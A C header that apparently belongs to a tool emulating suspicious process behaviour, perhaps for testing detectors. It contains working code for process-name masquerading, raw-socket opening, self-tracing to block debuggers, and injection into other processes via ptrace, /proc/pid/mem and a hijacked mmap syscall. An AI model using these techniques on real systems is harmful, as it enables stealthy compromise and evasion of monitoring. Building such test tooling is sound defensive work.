/* process.h: techniques that touch names, sockets and other processes. Included by resident.c alone. */
#ifndef PROCESS_H
#define PROCESS_H

#include <arpa/inet.h>
#include <net/ethernet.h>
#include <netinet/in.h>
#include <sys/ptrace.h>
#include <sys/user.h>

/* Writes a name over its own arguments, and gives it to itself. */
UNUSED static void act_argv(int argc, char **argv)
{
	char *end = argv[argc - 1] + strlen(argv[argc - 1]);
	size_t room = (size_t)(end - argv[0]);

	memset(argv[0], 0, room);
	snprintf(argv[0], room + 1, "%s", NAME);
	if (LAYOUT & 1)
		prctl(PR_SET_NAME, "worker");
}

/* Opens what a sniffer would, and reads nothing from it. */
UNUSED static void act_raw(int argc, char **argv)
{
	static const int protocols[] = { IPPROTO_ICMP, IPPROTO_TCP, IPPROTO_UDP, IPPROTO_RAW };
	int fd;

	(void)argc;
	(void)argv;
	if (LAYOUT & 1)
		fd = socket(AF_PACKET, LAYOUT & 2 ? SOCK_RAW : SOCK_DGRAM, htons(ETH_P_ALL));
	else
		fd = socket(LAYOUT & 2 ? AF_INET6 : AF_INET, SOCK_RAW, LAYOUT & 2 ? IPPROTO_ICMPV6 : protocols[LAYOUT >> 4 & 3]);
	if (fd < 0)
		give_up("socket");
}

/* Listens, and never answers. */
UNUSED static void act_listen(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = { htonl(LAYOUT & 1 ? INADDR_ANY : INADDR_LOOPBACK) } };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	(void)argc;
	(void)argv;
	to.sin_port = htons((uint16_t)(1024 + (SEED >> 4) % 60000));
	if (bind(fd, (struct sockaddr *)&to, sizeof(to)) < 0) {
		to.sin_port = 0;
		if (bind(fd, (struct sockaddr *)&to, sizeof(to)) < 0)
			give_up("bind");
	}
	if (listen(fd, 1) < 0)
		give_up("listen");
}

/* A child traces it, so that no debugger can. */
UNUSED static void act_traced(int argc, char **argv)
{
	pid_t parent = getpid(), child;
	int fds[2];
	char c;

	(void)argc;
	(void)argv;
	if (pipe(fds) < 0)
		give_up("pipe");
	prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
	child = fork();
	if (!child) {
		if (ptrace(PTRACE_SEIZE, parent, 0, 0) < 0)
			give_up("ptrace");
		if (write(fds[1], "x", 1) != 1)
			exit(3);
		ready();
		rest();
		exit(0);
	}
	if (read(fds[0], &c, 1) != 1)
		exit(3);
}

/* The last page of the first executable mapping of the program, or of the C library with LAYOUT 1. */
static uintptr_t last_code_page(pid_t pid)
{
	char name[64], line[PATH_MAX], exe[PATH_MAX] = "";
	unsigned long from, to;
	uintptr_t page = 0;
	ssize_t n;
	FILE *f;

	snprintf(name, sizeof(name), "/proc/%d/exe", (int)pid);
	n = readlink(name, exe, sizeof(exe) - 1);
	snprintf(name, sizeof(name), "/proc/%d/maps", (int)pid);
	f = fopen(name, "re");
	while (f && !page && n > 0 && fgets(line, sizeof(line), f))
		if (strstr(line, " r-xp ") && sscanf(line, "%lx-%lx", &from, &to) == 2 && strstr(line, LAYOUT & 1 ? "/libc" : exe))
			page = to - PAGE;
	if (!page)
		give_up("maps");
	fclose(f);
	return page;
}

/* By ptrace: a word after the other. */
static void poke(pid_t pid, uintptr_t at, const unsigned char *code, size_t n)
{
	size_t i;
	long word;

	for (i = 0; i + sizeof(word) <= n; i += sizeof(word)) {
		memcpy(&word, code + i, sizeof(word));
		if (ptrace(PTRACE_POKEDATA, pid, at + i, word) < 0)
			give_up("poke");
	}
}

static void attach(pid_t pid)
{
	int status;

	signal(SIGCHLD, SIG_DFL);
	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0 || waitpid(pid, &status, __WALL) != pid)
		give_up("attach");
}

/* Code for a process that the arguments name, put where nothing of that process runs. */
UNUSED static void act_inject_ptrace(int argc, char **argv)
{
	pid_t pid = argc > 1 ? (pid_t)strtol(argv[1], NULL, 10) : 0;
	unsigned char code[64];

	memset(code, 0x90, sizeof(code));
	put_function(code + 8 * (LAYOUT >> 4 & 3));
	attach(pid);
	poke(pid, last_code_page(pid) + PAGE - 128 - 8 * (LAYOUT >> 6 & 7), code, sizeof(code));
	ptrace(PTRACE_DETACH, pid, 0, 0);
	if (LAYOUT & 2)
		exit(0);
}

UNUSED static void act_inject_mem(int argc, char **argv)
{
	pid_t pid = argc > 1 ? (pid_t)strtol(argv[1], NULL, 10) : 0;
	unsigned char code[64];
	char name[64];
	int fd;

	memset(code, 0x90, sizeof(code));
	put_function(code + 8 * (LAYOUT >> 4 & 3));
	snprintf(name, sizeof(name), "/proc/%d/mem", (int)pid);
	fd = open(name, O_WRONLY | O_CLOEXEC);
	if (fd < 0 || pwrite(fd, code, sizeof(code), (off_t)(last_code_page(pid) + PAGE - 128 - 8 * (LAYOUT >> 6 & 7))) < 0)
		give_up(name);
	close(fd);
	if (LAYOUT & 2)
		exit(0);
}

/* A region of memory made in a process that the arguments name, by a system call lent to it. */
UNUSED static void act_inject_region(int argc, char **argv)
{
	pid_t pid = argc > 1 ? (pid_t)strtol(argv[1], NULL, 10) : 0;
	struct user_regs_struct saved = { 0 }, regs;
	static unsigned char code[PAGES * PAGE];
	uintptr_t at;
	char name[64];
	long word;
	int status, fd;

	payload(code, sizeof(code));
	attach(pid);
	at = last_code_page(pid) + PAGE - 16;
	errno = 0;
	word = ptrace(PTRACE_PEEKDATA, pid, at, 0);
	if (errno || ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0 || ptrace(PTRACE_POKEDATA, pid, at, (word & ~0xffffL) | 0x050f) < 0)
		give_up("ptrace");
	regs = saved;
	regs.rip = at;
	regs.orig_rax = (unsigned long long)-1;
	regs.rax = SYS_mmap;
	regs.rdi = 0;
	regs.rsi = sizeof(code);
	regs.rdx = PROT_READ | PROT_EXEC | (LAYOUT & 4 ? PROT_WRITE : 0);
	regs.r10 = MAP_PRIVATE | MAP_ANONYMOUS;
	regs.r8 = (unsigned long long)-1;
	regs.r9 = 0;
	if (ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0
	    || waitpid(pid, &status, __WALL) != pid || ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
		give_up("ptrace");
	snprintf(name, sizeof(name), "/proc/%d/mem", (int)pid);
	fd = open(name, O_WRONLY | O_CLOEXEC);
	if (fd < 0 || pwrite(fd, code, sizeof(code), (off_t)regs.rax) != (ssize_t)sizeof(code))
		give_up(name);
	close(fd);
	ptrace(PTRACE_POKEDATA, pid, at, word);
	ptrace(PTRACE_SETREGS, pid, 0, &saved);
	ptrace(PTRACE_DETACH, pid, 0, 0);
	if (LAYOUT & 2)
		exit(0);
}

#endif
